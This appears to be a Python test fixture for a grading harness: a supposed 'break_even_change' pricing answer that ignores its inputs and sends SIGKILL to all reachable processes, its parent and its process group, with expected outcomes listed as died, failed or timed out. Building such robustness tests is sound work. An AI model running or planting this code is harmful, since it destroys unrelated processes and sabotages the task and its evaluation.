"""Each call kills all other processes that it sees.

question: pricing-q3
outcome: DIED FAILED TIMED_OUT
"""
import os
import signal


def break_even_change(price_change, margin):
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(0, signal.SIGKILL)
